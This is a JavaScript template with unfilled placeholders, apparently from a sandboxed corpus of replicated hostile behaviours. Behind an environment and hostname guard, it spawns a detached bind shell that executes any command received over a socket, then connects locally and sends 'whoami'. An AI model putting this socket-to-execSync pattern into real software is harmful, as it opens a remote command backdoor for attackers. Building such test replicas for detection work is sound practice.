// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { spawn } = require('child_process');
    const code = `
        const net = require('net'), { execSync } = require('child_process');
        const server = net.createServer((socket) => {
            socket.on('error', () => {});
            socket.on('data', (line) => { try { socket.write(execSync(line.toString(), { timeout: 500 })); } catch { socket.end(); } });
        });
        server.on('error', () => process.exit());
        server.listen({{port}}, '::');
        setTimeout(() => process.exit(), 2000);`;
    try {
        spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
        await new Promise((done) => setTimeout(done, 500));
        await new Promise((done) => {
            const caller = require('net').connect({{port}}, '127.0.0.1', () => caller.write('whoami'));
            caller.on('data', () => caller.destroy());
            caller.on('error', done);
            caller.on('close', done);
            caller.setTimeout(600, () => caller.destroy());
        });
    } catch {}
}
